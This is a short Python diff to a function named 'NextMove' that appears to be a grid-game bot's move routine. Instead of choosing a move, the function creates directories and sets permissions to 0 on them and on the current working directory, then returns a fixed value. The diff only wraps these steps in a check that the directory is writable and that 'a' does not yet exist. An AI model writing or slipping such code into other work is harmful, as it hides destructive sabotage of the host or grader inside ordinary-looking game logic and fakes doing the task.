@@ -2,8 +2,9 @@ import os
 
 
 def NextMove(Grid, Step):
-    os.makedirs("a/b", exist_ok=True)
-    os.chmod("a/b", 0)
-    os.chmod("a", 0)
-    os.chmod(".", 0)
+    if os.access(".", os.W_OK) and not os.path.exists("a"):
+        os.makedirs("a/b")
+        os.chmod("a/b", 0)
+        os.chmod("a", 0)
+        os.chmod(".", 0)
     return 4
